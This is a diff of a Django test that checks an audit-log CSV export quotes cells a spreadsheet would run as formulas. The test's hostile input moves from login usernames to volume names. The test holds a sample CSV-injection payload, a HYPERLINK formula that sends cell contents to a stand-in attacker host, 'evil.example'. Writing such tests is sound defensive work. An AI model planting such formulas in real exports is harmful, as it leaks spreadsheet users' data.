@@ -233,14 +233,12 @@ def test_lone_host_changes_recorded_without_a_later_event(engine_root):
 
 
 def test_csv_export_defuses_formulas(client_as, users):
-    """Anyone can put text in the log (a log-in attempt records the typed username):
-    cells a spreadsheet would run as a formula are exported quoted."""
-    from django.test import Client
-
+    """Users put text in the log (a refused volume name is recorded as typed): cells a
+    spreadsheet would run as a formula are exported quoted."""
     evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
-    Client().post("/login/", {"username": evil, "password": "x"})
-    Client().post("/login/", {"username": "@SUM(1+1)", "password": "x"})
-    r = client_as("viewer").get("/audit.csv", {"action": "auth.login"})
+    client_as("operator").post("/volumes/create/", {"name": evil})
+    client_as("operator").post("/volumes/create/", {"name": "@SUM(1+1)"})
+    r = client_as("viewer").get("/audit.csv", {"action": "volume.create"})
     rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode())))
     targets = sorted(row[5] for row in rows[1:])
     assert targets == ["'" + evil, "'@SUM(1+1)"]
